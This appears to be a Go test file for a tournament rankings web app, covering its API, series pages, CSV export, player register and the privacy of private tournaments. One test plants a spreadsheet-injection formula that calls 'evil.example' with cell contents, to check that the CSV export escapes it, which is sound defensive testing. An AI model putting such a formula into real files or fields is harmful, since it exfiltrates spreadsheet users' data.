package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"courtside/app"
	"courtside/handlers/api"
	"courtside/tournament"
)

// rankedPage parses an HTML answer.
func rankedPage(t *testing.T, rec *httptest.ResponseRecorder) *goquery.Document {
	t.Helper()
	doc, err := goquery.NewDocumentFromReader(strings.NewReader(rec.Body.String()))
	if err != nil {
		t.Fatal(err)
	}
	return doc
}

// rankedServe answers a request made by the test.
func rankedServe(f *fixture, req *http.Request) *httptest.ResponseRecorder {
	rec := httptest.NewRecorder()
	f.handler.ServeHTTP(rec, req)
	return rec
}

// cup is the demo's series and the kicker club that keeps it.
func (f *fixture) cup() (tournament.Organizer, tournament.Series) {
	f.t.Helper()
	org := f.org("kickerclub-hamburg")
	for _, r := range f.demo.Rankings {
		if r.OrganizerID == org.ID {
			return org, r.Series[0]
		}
	}
	f.t.Fatal("no demo series")
	return org, tournament.Series{}
}

func TestRankingsJSON(t *testing.T) {
	f := newFixture(t)
	org, se := f.cup()
	base := "/v1/courtside/organizers/" + org.ID

	if rec := f.get(base+"/series", ""); rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Body.String(), "ACCESS_TOKEN_MISSING") {
		t.Fatalf("without a key: %d %s", rec.Code, rec.Body)
	}
	rec := f.get(base+"/series/"+se.ID, f.publicKicker)
	if rec.Code != 200 {
		t.Fatalf("%d %s", rec.Code, rec.Body)
	}
	var table api.SeriesTableJSON
	if err := json.Unmarshal(rec.Body.Bytes(), &table); err != nil {
		t.Fatal(err)
	}
	if table.Name != se.Name || len(table.Rows) < 10 || !table.Live || table.BestN != 5 || len(table.Points) == 0 {
		t.Fatalf("series table %+v", table)
	}
	for i, row := range table.Rows {
		if row.Rating == 0 || row.Points == 0 || i > 0 && row.Points > table.Rows[i-1].Points {
			t.Errorf("row %d: %+v", i, row)
		}
	}
	if rec := f.get(base+"/series/nope", f.publicKicker); rec.Code != 404 || !strings.Contains(rec.Body.String(), "SERIES_NOT_FOUND") {
		t.Errorf("unknown series: %d %s", rec.Code, rec.Body)
	}
	// A public key of another sport does not see the club.
	if rec := f.get(base+"/series", f.publicBoule); rec.Code != 404 {
		t.Errorf("a boule key: %d", rec.Code)
	}
	rec = f.get(base+"/ratings?limit=3&offset=1", f.token)
	var ratings []app.RatingJSON
	if err := json.Unmarshal(rec.Body.Bytes(), &ratings); rec.Code != 200 || err != nil || len(ratings) != 3 || ratings[0].Rank != 2 {
		t.Fatalf("ratings %d %s", rec.Code, rec.Body)
	}
	if rec := f.get(base+"/ratings?limit=1000", f.token); rec.Code != 400 {
		t.Errorf("limit 1000: %d", rec.Code)
	}
	rec = f.get(base+"/players/"+ratings[0].PlayerID, f.token)
	var player api.PlayerJSON
	if err := json.Unmarshal(rec.Body.Bytes(), &player); rec.Code != 200 || err != nil || player.Games != len(player.History) || len(player.Tournaments) == 0 {
		t.Fatalf("player %d %s", rec.Code, rec.Body)
	}
	if got := player.History[len(player.History)-1].Rating; int(got+0.5) != player.Rating && int(got-0.5) != player.Rating {
		t.Errorf("the last history point %.2f, the rating %d", got, player.Rating)
	}
}

func TestSeriesPages(t *testing.T) {
	f := newFixture(t)
	org, se := f.cup()
	path := "/o/" + org.Slug + "/series/" + se.ID
	rec := f.get(path, "")
	if rec.Code != 200 {
		t.Fatalf("%d %s", rec.Code, rec.Body)
	}
	doc := rankedPage(t, rec)
	if n := doc.Find(`[data-testid="series-row"]`).Length(); n < 10 {
		t.Errorf("%d rows", n)
	}
	if doc.Find(`[data-testid="series-table"][hx-get]`).Length()+doc.Find(`#series-table[hx-get]`).Length() == 0 {
		t.Error("the table of a running series does not poll")
	}
	if !strings.Contains(doc.Find(`[data-testid="series-rules"]`).Text(), "Ties:") {
		t.Error("no tie rules on the page")
	}
	// The poll of an unchanged series is a 304.
	headers, _ := doc.Find(`#series-table`).Attr("hx-headers")
	var sent map[string]string
	if err := json.Unmarshal([]byte(headers), &sent); err != nil {
		t.Fatalf("hx-headers %q: %v", headers, err)
	}
	tag := sent["If-None-Match"]
	req, _ := http.NewRequest(http.MethodGet, path, nil)
	req.Header.Set("HX-Request", "true")
	req.Header.Set("HX-Target", "series-table")
	req.Header.Set("If-None-Match", tag)
	if rec := rankedServe(f, req); rec.Code != http.StatusNotModified {
		t.Errorf("poll with the page's tag: %d", rec.Code)
	}

	// TV, CSV, a profile and the ratings; German.
	if rec := f.get(path+"/tv", ""); rec.Code != 200 || rankedPage(t, rec).Find(`[data-testid="series-tv"]`).Length() != 1 {
		t.Errorf("tv %d", rec.Code)
	} else if zone, _ := rankedPage(t, rec).Find(`[data-testid="clock"]`).Attr("data-zone"); zone != "Europe/Berlin" {
		// The clock tells the venue's time, not the TV's own zone's.
		t.Errorf("the series TV's clock tells the time in %q, want the Hamburg venue's Europe/Berlin", zone)
	}
	rec = f.get(path+"/table.csv", "")
	lines, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if rec.Code != 200 || err != nil || !strings.HasPrefix(rec.Header().Get("Content-Type"), "text/csv") || len(lines) < 11 || lines[0][0] != "rank" || lines[1][0] != "1" {
		t.Fatalf("csv %d %v %q", rec.Code, err, rec.Body.String()[:min(200, rec.Body.Len())])
	}
	profile := f.get("/o/"+org.Slug+"/players/"+lines[1][1], "")
	pd := rankedPage(t, profile)
	if profile.Code != 200 || pd.Find(`svg[data-testid="rating-chart"] polyline`).Length() != 1 || pd.Find(`[data-testid="player-tournaments"] li`).Length() == 0 {
		t.Errorf("profile %d", profile.Code)
	}
	if rec := f.get("/o/"+org.Slug+"/players/nobody", ""); rec.Code != 404 {
		t.Errorf("unknown player: %d", rec.Code)
	}
	if rec := f.get("/o/"+org.Slug+"/ratings?lang=de", ""); rec.Code != http.StatusSeeOther && rec.Code != 200 {
		t.Errorf("ratings: %d", rec.Code)
	}
	req, _ = http.NewRequest(http.MethodGet, path, nil)
	req.AddCookie(&http.Cookie{Name: "lang", Value: "de"})
	if body := rankedServe(f, req).Body.String(); !strings.Contains(body, "Wie die Tabelle entsteht") || strings.Contains(body, "How the table is made") {
		t.Error("the German page is not German")
	}
}

// TestRegisterConsole confirms new names, merges two players and refuses
// what is not the organizer's.
func TestRegisterConsole(t *testing.T) {
	f := newFixture(t)
	org, _ := f.cup()
	o, _ := f.signIn(f.token)
	rec := o.do(http.MethodGet, "/admin/players", nil)
	if rec.Code != 200 {
		t.Fatalf("%d", rec.Code)
	}
	doc := o.doc(rec)
	if doc.Find(`[data-testid="nothing-pending"]`).Length() != 1 {
		t.Error("the demo's register has names to confirm")
	}
	// A late entry with a registered name and one with a new name.
	dt := f.tournament("Club Night 4")
	snap, err := f.store.Snapshot(context.Background(), dt.Tournament.ID)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Anna  becker", "Quentin Neu"} {
		if _, _, err := f.store.Write(context.Background(), snap, func(s *tournament.Snapshot) (*tournament.Change, error) {
			e, err := s.LateEntry(s.Tournament.Disciplines[0].ID, name)
			if err != nil {
				return nil, err
			}
			return s.AddLateEntry(s.Tournament.Disciplines[0].ID, e, f.store.Now())
		}); err != nil {
			t.Fatal(err)
		}
		if snap, err = f.store.Snapshot(context.Background(), dt.Tournament.ID); err != nil {
			t.Fatal(err)
		}
	}
	doc = o.doc(o.do(http.MethodGet, "/admin/players", nil))
	var values []string
	doc.Find(`[data-testid="confirm-form"] input[name="link"]`).Each(func(_ int, s *goquery.Selection) {
		v, _ := s.Attr("value")
		values = append(values, v)
	})
	if len(values) != 2 {
		t.Fatalf("names to confirm: %v", values)
	}
	matched := 0
	for _, v := range values {
		if !strings.HasSuffix(v, "|") {
			matched++ // "Anna  becker" is Anna Becker
		}
	}
	if matched != 1 {
		t.Errorf("matched by name: %v", values)
	}
	// A link key of another organizer's tournament is refused, and nothing changes.
	var boule tournament.DemoTournament
	for _, dt := range f.demo.Tournaments {
		if dt.Tournament.OrganizerID == f.org("boule-lyonnaise").ID && len(dt.Entries) > 0 {
			boule = dt
		}
	}
	forged := url.Values{"link": {tournament.LinkKey(boule.Tournament.ID, boule.Entries[0].ID) + "|"}}
	if rec := o.do(http.MethodPost, "/admin/players/confirm", forged); rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("a foreign entry: %d", rec.Code)
	}
	rec = o.do(http.MethodPost, "/admin/players/confirm", url.Values{"link": values})
	if rec.Code != 200 || o.doc(rec).Find(`[data-testid="nothing-pending"]`).Length() != 1 {
		t.Fatalf("confirm: %d", rec.Code)
	}
	// Settings with a bad K: the message is beside the field.
	rec = o.do(http.MethodPost, "/admin/players/settings", url.Values{"start": {"1500"}, "kNew": {"0"}, "newGames": {"30"}, "k": {"20"}, "kTop": {"10"}, "topRating": {"2400"}})
	if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(o.doc(rec).Find("#e-kNew").Text(), "K factor") {
		t.Errorf("bad K: %d %s", rec.Code, o.doc(rec).Find("#e-kNew").Text())
	}
	// A series with a bad points table: the message is beside the field, nothing is saved.
	rec = o.do(http.MethodPost, "/admin/series", url.Values{"name": {"Test"}, "class": {"local"}, "points": {"1:10, 2:20"}})
	if rec.Code != http.StatusUnprocessableEntity || !strings.Contains(rec.Body.String(), "places rise and points do not") {
		t.Errorf("bad table: %d", rec.Code)
	}
	rk, err := f.store.Rankings(context.Background(), org.ID)
	if err != nil || len(rk.Series) != 1 {
		t.Fatalf("series after a refused one: %v %v", rk, err)
	}
}

// TestScreenShowsASeriesTable steers a screen in the hall to the series table.
func TestScreenShowsASeriesTable(t *testing.T) {
	f := newFixture(t)
	_, se := f.cup()
	night := f.tournament("Club Night 4").Tournament.ID
	o, _ := f.signIn(f.token)
	if rec := o.do(http.MethodPost, "/admin/t/"+night+"/screens", url.Values{"new": {"1"}, "name": {"hall-1"}, "show": {"series"}, "series": {"tio:nope"}}); rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("an unknown series: %d", rec.Code)
	}
	if rec := o.do(http.MethodPost, "/admin/t/"+night+"/screens", url.Values{"new": {"1"}, "name": {"hall-1"}, "show": {"series"}, "series": {se.ID}}); rec.Code != http.StatusSeeOther {
		t.Fatalf("save: %d %s", rec.Code, rec.Body)
	}
	rec := f.get("/t/"+night+"/screens/hall-1", "")
	doc := rankedPage(t, rec)
	if rec.Code != 200 || doc.Find(`[data-testid="screen"] [data-testid="series-row"]`).Length() < 10 {
		t.Fatalf("screen %d: %d rows", rec.Code, doc.Find(`[data-testid="series-row"]`).Length())
	}
	if doc.Find(`#series-table[hx-get]`).Length() != 0 {
		t.Error("the table polls on its own inside a screen, which polls already")
	}
}

// TestPrivateTournamentsStayPrivateInRankings: a player of the private
// training night has a profile, but visitors do not see that tournament in it;
// the organizer's token does.
func TestPrivateTournamentsStayPrivateInRankings(t *testing.T) {
	f := newFixture(t)
	org, _ := f.cup()
	night := f.tournament("Club Training Night")
	var pid string
	for _, r := range f.demo.Rankings {
		for k, p := range r.Links {
			if tid, _, _ := tournament.SplitLinkKey(k); tid == night.Tournament.ID {
				pid = p
			}
		}
	}
	if pid == "" {
		t.Fatal("nobody of the training night is registered")
	}
	body := f.get("/o/"+org.Slug+"/players/"+pid, "").Body.String()
	if strings.Contains(body, night.Tournament.Name) {
		t.Error("a visitor sees the private training night in a profile")
	}
	for key, want := range map[string]bool{f.publicKicker: false, f.token: true} {
		var p api.PlayerJSON
		if err := json.Unmarshal(f.get("/v1/courtside/organizers/"+org.ID+"/players/"+pid, key).Body.Bytes(), &p); err != nil {
			t.Fatal(err)
		}
		seen := false
		for _, tt := range p.Tournaments {
			seen = seen || tt.TournamentID == night.Tournament.ID
		}
		for _, h := range p.History {
			seen = seen || h.TournamentID == night.Tournament.ID
		}
		if seen != want {
			t.Errorf("key %s… sees the training night: %v", key[:8], seen)
		}
	}
}

// TestSplitAndMergeFromTheConsole splits an entry off a player in the
// console, then merges the two again.
func TestSplitAndMergeFromTheConsole(t *testing.T) {
	f := newFixture(t)
	org, _ := f.cup()
	o, _ := f.signIn(f.token)
	rk, err := f.store.Rankings(context.Background(), org.ID)
	if err != nil {
		t.Fatal(err)
	}
	var anna string
	for id, p := range rk.Register.Players {
		if p.Name == "Anna Becker" {
			anna = id
		}
	}
	page := o.doc(o.do(http.MethodGet, "/admin/players/"+anna, nil))
	link, _ := page.Find(`[data-testid="player-entries"] input[name="link"]`).First().Attr("value")
	if rec := o.do(http.MethodPost, "/admin/players/"+anna, url.Values{"link": {link}}); rec.Code != http.StatusUnprocessableEntity || o.doc(rec).Find("#split-name-error").Text() == "" {
		t.Errorf("a split without a name: %d", rec.Code)
	}
	if rec := o.do(http.MethodPost, "/admin/players/"+anna, url.Values{"link": {link}, "name": {"Anna Becker (Altona)"}}); rec.Code != 200 || o.doc(rec).Find(`[data-testid="flash"]`).Length() != 1 {
		t.Fatalf("split: %d", rec.Code)
	}
	rk, _ = f.store.Rankings(context.Background(), org.ID)
	twin := rk.Register.Links[link]
	if twin == anna || rk.Register.Players[twin].Name != "Anna Becker (Altona)" {
		t.Fatalf("the entry is %s's", twin)
	}
	if rec := o.do(http.MethodPost, "/admin/players/merge", url.Values{"into": {anna}, "from": {twin}}); rec.Code != 200 {
		t.Fatalf("merge: %d", rec.Code)
	}
	rk, _ = f.store.Rankings(context.Background(), org.ID)
	if rk.Register.Links[link] != anna {
		t.Error("the merge did not give the entry back")
	}
	if rec := o.do(http.MethodPost, "/admin/players/merge", url.Values{"into": {anna}, "from": {anna}}); rec.Code != http.StatusUnprocessableEntity {
		t.Errorf("merging a player with itself: %d", rec.Code)
	}
}

// TestTheSeriesCSVNeutralizesItsHeader: a tournament named like a formula
// heads its columns in the series CSV as text, as a player's name is.
func TestTheSeriesCSVNeutralizesItsHeader(t *testing.T) {
	f := newFixture(t)
	org, se := f.cup()
	ctx := context.Background()
	snap, err := f.store.Snapshot(ctx, se.Parts[0].TournamentID)
	if err != nil {
		t.Fatal(err)
	}
	const formula = `=HYPERLINK("http://evil.example/?"&A1,"Cup")`
	if _, _, err := f.store.Write(ctx, snap, func(s *tournament.Snapshot) (*tournament.Change, error) {
		renamed := *s.Tournament
		renamed.Name, renamed.Rev = formula, tournament.NextRev(s.Tournament.Rev)
		return &tournament.Change{Tournament: &renamed}, nil
	}); err != nil {
		t.Fatal(err)
	}
	rec := f.get("/o/"+org.Slug+"/series/"+se.ID+"/table.csv", "")
	lines, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if rec.Code != 200 || err != nil || len(lines) == 0 {
		t.Fatalf("csv %d %v", rec.Code, err)
	}
	named := 0
	for _, cell := range lines[0] {
		if strings.Contains(cell, "HYPERLINK") {
			named++
			if !strings.HasPrefix(cell, "'=") {
				t.Errorf("header cell %q reads as a formula", cell)
			}
		}
	}
	if named == 0 {
		t.Errorf("the header does not name the renamed tournament: %q", lines[0])
	}
}

// privateClub is a table soccer club whose only tournament is private (a
// copy of the demo's training night), with its players registered and a
// series of it; it returns the club, its token, one registered player who
// played and the series.
func (f *fixture) privateClub() (tournament.Organizer, string, string, string) {
	f.t.Helper()
	ctx := context.Background()
	org := tournament.Organizer{ID: "org_private", Slug: "private-club", Name: "Private Club", Sport: tournament.TableSoccer}
	if err := f.store.PutOrganizer(ctx, org); err != nil {
		f.t.Fatal(err)
	}
	night, err := f.store.Snapshot(ctx, f.tournament("Club Training Night").Tournament.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	raw, _ := json.Marshal(night.Tournament)
	var tt tournament.Tournament
	_ = json.Unmarshal(raw, &tt)
	tt.ID, tt.OrganizerID, tt.Public = "t_private_only", org.ID, false
	var entries []*tournament.Entry
	for _, e := range night.Entries {
		entries = append(entries, e)
	}
	if err := f.store.PutTournament(ctx, &tt, night.Matches, entries); err != nil {
		f.t.Fatal(err)
	}
	snap, err := f.store.Snapshot(ctx, tt.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	var players []tournament.RegisteredPlayer
	links := map[string]string{}
	for i, pe := range tournament.PlayerEntries(snap) {
		p := tournament.RegisteredPlayer{ID: fmt.Sprintf("pl_private%02d", i), Name: "Secret " + pe.Name}
		players = append(players, p)
		links[tournament.LinkKey(tt.ID, pe.EntryID)] = p.ID
	}
	if err := f.store.LinkPlayers(ctx, org.ID, players, links); err != nil {
		f.t.Fatal(err)
	}
	d := tt.Disciplines[0]
	se := tournament.Series{ID: "se_private", Name: "Members Cup", Class: tournament.ClassLocal, Parts: []tournament.SeriesPart{{TournamentID: tt.ID, DisciplineID: d.ID}}}
	if err := f.store.PutSeries(ctx, org.ID, se); err != nil {
		f.t.Fatal(err)
	}
	token, _, err := f.store.CreateToken(ctx, org.ID, "")
	if err != nil {
		f.t.Fatal(err)
	}
	rk, err := f.store.Rankings(ctx, org.ID)
	if err != nil {
		f.t.Fatal(err)
	}
	for _, p := range players {
		if len(rk.Register.LinksOf(p.ID)) > 0 {
			return org, token, p.ID, se.ID
		}
	}
	f.t.Fatal("nobody of the private night played")
	return org, "", "", ""
}

// TestAnOrganizersPrivateTournamentReachesNoRanking: a club's only tournament
// is private. Anonymous visitors, another organizer (its token and its
// console) and a public key of the sport find none of its players, ratings,
// rated matches or chart points on any ranking page or JSON; the club's own
// token and console see them all.
func TestAnOrganizersPrivateTournamentReachesNoRanking(t *testing.T) {
	f := newFixture(t)
	org, token, pid, seriesID := f.privateClub()
	secret := "Secret "
	pages := []string{"/o/" + org.Slug + "/ratings", "/o/" + org.Slug + "/players/" + pid, "/o/" + org.Slug + "/series/" + seriesID,
		"/o/" + org.Slug + "/series/" + seriesID + "/tv", "/o/" + org.Slug + "/series/" + seriesID + "/table.csv"}
	base := "/v1/courtside/organizers/" + org.ID
	jsons := []string{base + "/ratings", base + "/players/" + pid, base + "/series", base + "/series/" + seriesID}

	other, _ := f.signIn(f.bouleToken)
	own, _ := f.signIn(token)
	for _, p := range pages {
		for who, get := range map[string]func() *httptest.ResponseRecorder{
			"a visitor":                 func() *httptest.ResponseRecorder { return f.get(p, "") },
			"another organizer's login": func() *httptest.ResponseRecorder { return other.do(http.MethodGet, p, nil) },
		} {
			rec := get()
			if rec.Code == http.StatusOK && strings.Contains(rec.Body.String(), secret) || strings.Contains(rec.Body.String(), "Rated matches") && rec.Code == http.StatusOK && strings.Contains(p, "/players/") {
				t.Errorf("%s reads a private player on %s: %d", who, p, rec.Code)
			}
		}
		if rec := own.do(http.MethodGet, p, nil); rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), secret) && !strings.Contains(p, "/series/") {
			t.Errorf("the club's own console on %s: %d", p, rec.Code)
		}
	}
	for _, p := range jsons {
		for who, key := range map[string]string{"another organizer's token": f.bouleToken, "a public key": f.publicKicker} {
			rec := f.get(p, key)
			if rec.Code == http.StatusOK && (strings.Contains(rec.Body.String(), secret) || strings.Contains(rec.Body.String(), `"rating":15`)) {
				t.Errorf("%s reads a private player on %s: %s", who, p, rec.Body)
			}
		}
		if rec := f.get(p, token); rec.Code != http.StatusOK {
			t.Errorf("the club's own token on %s: %d", p, rec.Code)
		}
	}
	var ratings []app.RatingJSON
	if err := json.Unmarshal(f.get(base+"/ratings", token).Body.Bytes(), &ratings); err != nil || len(ratings) == 0 || !strings.HasPrefix(ratings[0].Name, secret) {
		t.Errorf("the club's own token sees %v (%v)", ratings, err)
	}
	var p api.PlayerJSON
	if err := json.Unmarshal(f.get(base+"/players/"+pid, token).Body.Bytes(), &p); err != nil || p.Games == 0 || len(p.History) == 0 {
		t.Errorf("the club's own token sees the player %+v (%v)", p, err)
	}
	if doc := rankedPage(t, own.do(http.MethodGet, "/o/"+org.Slug+"/players/"+pid, nil)); doc.Find("svg title").Length() == 0 && !strings.Contains(doc.Text(), "Rated matches") {
		t.Error("the club's console shows no rating on the player's page")
	}
}

// TestAProfileCountsEachRatingChangeOnce: a tournament of two disciplines
// lists each discipline's own rating change, so that its lines add up to the
// tournament's change, not to twice it; the rating chart has a time axis with
// the tournaments' dates; a partner of one match is "1 match".
func TestAProfileCountsEachRatingChangeOnce(t *testing.T) {
	f := newFixture(t)
	org, _ := f.cup()
	number := func(s string) int {
		n, err := strconv.Atoi(strings.NewReplacer("−", "-", "±", "", "+", "", ",", "").Replace(strings.TrimSpace(s)))
		if err != nil {
			t.Fatalf("%q is no rating change", s)
		}
		return n
	}
	ratings := rankedPage(t, f.get("/o/"+org.Slug+"/ratings", ""))
	var checked, singular int
	ratings.Find(`a[href^="/o/` + org.Slug + `/players/"]`).Each(func(_ int, a *goquery.Selection) {
		href, _ := a.Attr("href")
		doc := rankedPage(t, f.get(href, ""))
		head := doc.Find(`[data-testid="player-change"]`)
		if head.Length() == 0 {
			return
		}
		since := strings.TrimPrefix(doc.Find(`[data-testid="player-change"]`).Prev().Text(), "At ")
		lines := doc.Find(`[data-testid="profile-tournament"][data-tournament="` + since + `"]`)
		sum := 0
		lines.Find(`[data-testid="profile-change"]`).Each(func(_ int, c *goquery.Selection) { sum += number(c.Text()) })
		// Each line's change is rounded: they add up to the whole within a point a line.
		if whole := number(head.Text()); lines.Length() > 1 && (sum-whole > lines.Length() || whole-sum > lines.Length()) {
			t.Errorf("%s at %s: the disciplines' changes add up to %d, the tournament's is %d", a.Text(), since, sum, whole)
		}
		if lines.Find(`[data-testid="profile-change"]`).Length() > 1 {
			checked++
		}
		if doc.Find(`[data-testid="rating-chart"]`).Length() == 1 {
			if doc.Find(`[data-testid="chart-time-axis"]`).Length() != 1 || doc.Find(`[data-testid="chart-day"]`).Length() == 0 {
				t.Errorf("%s: the rating chart has no time axis with dates", a.Text())
			}
		}
		doc.Find(`[data-testid="partner-matches"]`).Each(func(_ int, p *goquery.Selection) {
			if strings.HasPrefix(p.Text(), "1 match") {
				singular++
				if strings.HasPrefix(p.Text(), "1 matches") {
					t.Errorf("%s: a partner of %q", a.Text(), p.Text())
				}
			}
		})
	})
	if checked == 0 || singular == 0 {
		t.Fatalf("the demo has %d players rated in two disciplines of their last tournament and %d partners of one match: nothing was checked", checked, singular)
	}
}

// TestEmptyRatingsSayWhyAndWhereToStart: an organizer without rated players
// reads on its ratings page that names must first be confirmed, with the way
// to its register; a visitor reads why, without the console's link.
func TestEmptyRatingsSayWhyAndWhereToStart(t *testing.T) {
	f := newFixture(t)
	_, visitor := f.page("/o/boule-lyonnaise/ratings")
	if !strings.Contains(visitor.Find(`[data-testid="ratings-empty"]`).Text(), "confirmed their name") || visitor.Find(`[data-testid="ratings-register"]`).Length() != 0 {
		t.Errorf("a visitor reads %q", visitor.Find(`[data-testid="ratings-empty"]`).Text())
	}
	o, _ := f.signIn(f.bouleToken)
	doc := o.doc(o.do(http.MethodGet, "/o/boule-lyonnaise/ratings", nil))
	if href, _ := doc.Find(`[data-testid="ratings-register"]`).Attr("href"); href != "/admin/players" {
		t.Errorf("the organizer is led to %q, want its register", href)
	}
	if rec := o.do(http.MethodGet, "/admin/players", nil); rec.Code != http.StatusOK {
		t.Errorf("the register answers %d", rec.Code)
	}
}
